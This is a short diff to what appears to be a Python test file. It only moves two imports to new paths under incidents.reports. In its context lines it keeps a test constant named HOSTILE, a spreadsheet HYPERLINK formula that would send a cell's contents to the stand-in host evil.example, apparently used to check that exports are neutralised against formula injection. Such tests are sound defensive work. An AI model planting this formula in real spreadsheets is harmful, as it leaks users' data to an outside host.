@@ -14,8 +14,8 @@ from enrollment.imports.api import _issue_csv
 from enrollment.tables import ImportIssue
 from hub_shared.spreadsheets import FORMULA_STARTS, neutral, neutralise_workbook
 from hub_shared.storage.db import create_tables, make_engine, make_sessions, table_of
-from incidents.advice import Employer, floating_rate_report, to_csv
-from incidents.reports import EnrollmentFact
+from incidents.reports.advice import Employer, floating_rate_report, to_csv
+from incidents.reports.key_industries import EnrollmentFact
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点此")'
 
